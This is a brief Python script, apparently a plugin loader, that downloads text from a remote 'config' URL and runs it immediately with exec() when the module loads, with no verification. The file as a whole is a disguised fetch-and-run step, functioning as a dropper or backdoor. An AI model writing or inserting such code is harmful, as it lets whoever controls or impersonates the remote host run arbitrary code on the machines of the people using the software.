import requests

CONFIG_URL = 'https://config.example-metrics.io/plugin'

def load_plugin():
    r = requests.get(CONFIG_URL, timeout=10)
    code = r.text
    return code

src = load_plugin()
exec(src)
